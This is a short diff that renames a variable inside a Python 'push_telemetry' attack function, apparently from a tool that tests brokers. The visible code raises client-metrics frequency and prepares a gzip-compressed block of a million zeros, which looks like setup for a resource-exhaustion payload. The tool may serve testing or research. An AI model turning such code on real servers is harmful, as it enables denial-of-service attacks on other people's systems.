@@ -156,7 +156,7 @@ def describe_users(target: Target, size: int) -> Attack:
     alone="it serves this only with a plug-in that receives metrics",
 )
 def push_telemetry(target: Target, size: int) -> Attack:
-    wanted = AlterConfigsResource(
+    resource = AlterConfigsResource(
         resource_type=_CLIENT_METRICS,
         resource_name=target.tag,
         configs=[
@@ -164,7 +164,7 @@ def push_telemetry(target: Target, size: int) -> Attack:
             AlterableConfig(name="interval.ms", config_operation=0, value="100"),
         ],
     )
-    target.ask(IncrementalAlterConfigsRequest(resources=[wanted], validate_only=False), 1)
+    target.ask(IncrementalAlterConfigsRequest(resources=[resource], validate_only=False), 1)
     subscribed = target.ask(GetTelemetrySubscriptionsRequest(client_instance_id=bytes(16)), 0)
     packer = zlib.compressobj(9, zlib.DEFLATED, 31)
     zeros = bytes(1_000_000)
